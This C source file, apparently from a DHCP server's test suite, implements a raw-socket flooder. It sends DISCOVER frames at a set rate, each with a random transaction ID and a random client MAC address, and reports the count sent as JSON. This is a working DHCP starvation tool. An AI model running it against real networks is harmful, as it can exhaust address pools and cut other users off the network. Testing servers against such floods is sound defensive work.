/* A flood of DISCOVERs, each of a machine that is not there: what a hostile host can send.
 *
 *     flood INTERFACE RATE SECONDS FRAME
 *
 * FRAME is an Ethernet frame in hex, of IPv4 without options and of UDP without a checksum. In each
 * copy the transaction and the client's hardware address are others, by a generator of random numbers
 * that begins the same each time. RATE frames a second, or as many as the network takes; it does not
 * catch up. At the end it prints JSON: how many were sent, and in how many seconds.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "clients.h"

enum { AT_ONCE = 64, FRAME = 1514, DHCP = 14 + 20 + 8, XID = DHCP + 4, CHADDR = DHCP + 28 };

static uint8_t frames[AT_ONCE][FRAME];
static struct iovec parts[AT_ONCE];
static struct mmsghdr messages[AT_ONCE];
static uint64_t state = 88172645463325252u;

/* Marsaglia's xorshift. */
static uint64_t drawn(void) {
    state ^= state << 13;
    state ^= state >> 7;
    state ^= state << 17;
    return state;
}

static size_t read_hex(const char *text, uint8_t *into, size_t room) {
    size_t length = strlen(text) / 2;
    if (length > room) fail("a frame of %zu bytes", length);
    for (size_t at = 0; at < length; at++) {
        unsigned byte;
        if (sscanf(text + 2 * at, "%2x", &byte) != 1) fail("no hex");
        into[at] = (uint8_t)byte;
    }
    return length;
}

static int opened(const char *interface) {
    int line = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0), room = 4 << 20;
    struct sockaddr_ll to = {.sll_family = AF_PACKET,
                             .sll_ifindex = (int)if_nametoindex(interface)};
    setsockopt(line, SOL_SOCKET, SO_SNDBUFFORCE, &room, sizeof room);
    if (line < 0 || bind(line, (struct sockaddr *)&to, sizeof to))
        fail("%s: %s", interface, strerror(errno));
    return line;
}

int main(int count, char **arguments) {
    if (count != 5) fail("usage: flood INTERFACE RATE SECONDS FRAME");
    int line = opened(arguments[1]);
    double rate = atof(arguments[2]), seconds = atof(arguments[3]);
    size_t length = read_hex(arguments[4], frames[0], FRAME);
    if (length < CHADDR + 16) fail("no DHCP");
    for (int at = 0; at < AT_ONCE; at++) {
        memcpy(frames[at], frames[0], length);
        parts[at] = (struct iovec){frames[at], length};
        messages[at].msg_hdr = (struct msghdr){.msg_iov = &parts[at], .msg_iovlen = 1};
    }
    double began = monotonic(), due = began, now;
    unsigned long long sent = 0;
    while ((now = monotonic()) < began + seconds) {
        if (now < due) {
            usleep((useconds_t)((due - now) * 1e6) + 1);
            continue;
        }
        due = (now - due > 0.01 ? now : due) + AT_ONCE / rate;
        for (int at = 0; at < AT_ONCE; at++) {
            uint64_t who = drawn();
            memcpy(frames[at] + XID, &who, 4);
            memcpy(frames[at] + CHADDR, (uint8_t *)&who + 2, 6);
            frames[at][CHADDR] &= 0xfc;
        }
        int some = sendmmsg(line, messages, AT_ONCE, 0);
        if (some < 0 && errno != ENOBUFS) fail("sending: %s", strerror(errno));
        if (some > 0) sent += (unsigned long long)some;
    }
    printf("{\"sent\": %llu, \"seconds\": %.3f}\n", sent, monotonic() - began);
    return 0;
}
